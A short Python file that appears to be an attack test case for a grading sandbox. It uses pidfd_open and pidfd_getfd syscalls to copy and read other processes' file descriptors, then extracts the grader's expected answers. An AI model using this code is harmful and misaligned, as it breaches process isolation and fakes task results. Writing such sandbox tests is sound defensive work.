# attack: copy the descriptors of other processes by pidfd_getfd
# expect: RV

import ctypes
import json
import os


def answers(text):
    found = {}
    for line in text.splitlines():
        try:
            case = json.loads(line)
            found[case["args"][0]] = case["expected"]
        except (ValueError, LookupError, TypeError):
            continue
    return found


def text():
    libc = ctypes.CDLL(None)
    found = b""
    for pid in range(1, min(os.getpid(), 2000) + 20):
        handle = libc.syscall(434, pid, 0)
        for descriptor in range(3, 64) if handle >= 0 else ():
            copy = libc.syscall(438, handle, descriptor, 0)
            if copy >= 0:
                try:
                    found += os.pread(copy, 1 << 16, 0)
                except OSError:
                    continue
    return found.decode("utf-8", "replace")


def guess(n):
    return answers(text()).get(n)
